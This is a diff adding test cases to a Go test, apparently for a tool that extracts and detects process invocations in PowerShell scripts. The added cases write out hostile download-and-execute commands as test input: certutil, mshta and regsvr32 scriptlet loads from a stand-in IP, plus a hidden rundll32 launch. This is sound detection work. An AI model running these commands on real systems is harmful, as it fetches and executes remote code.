@@ -57,6 +57,14 @@ func TestInvocations(t *testing.T) {
 			[]Invocation{{"", "mshta http://203.0.113.7/a.hta", ViaMethod}}},
 		{"iex literal", "iex 'certutil -urlcache -f http://203.0.113.7/a a.txt'",
 			[]Invocation{{"certutil", "certutil -urlcache -f http://203.0.113.7/a a.txt", ViaStatement}}},
+		{"iex -Command", "Invoke-Expression -Command 'mshta http://203.0.113.7/a.hta'",
+			[]Invocation{{"mshta", "mshta http://203.0.113.7/a.hta", ViaStatement}}},
+		{"scriptblock create", "& ([ScriptBlock]::Create('regsvr32 /s /i:http://203.0.113.7/f.sct scrobj.dll'))",
+			[]Invocation{{"regsvr32", "regsvr32 /s /i:http://203.0.113.7/f.sct scrobj.dll", ViaStatement}}},
+		{"start-process array literal", "Start-Process cmd.exe -ArgumentList @('/c', 'certutil -urlcache -f http://203.0.113.7/a a.dat')",
+			[]Invocation{{"cmd.exe", `cmd.exe /c "certutil -urlcache -f http://203.0.113.7/a a.dat"`, ViaStartProcess}}},
+		{"process start info", "$psi = New-Object System.Diagnostics.ProcessStartInfo\n$psi.FileName = 'rundll32.exe'\n$psi.Arguments = 'C:\\Users\\Public\\a.dll,Go'\n$psi.WindowStyle = 'Hidden'\n[Diagnostics.Process]::Start($psi)",
+			[]Invocation{{"", `rundll32.exe C:\Users\Public\a.dll,Go`, ViaMethod}}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
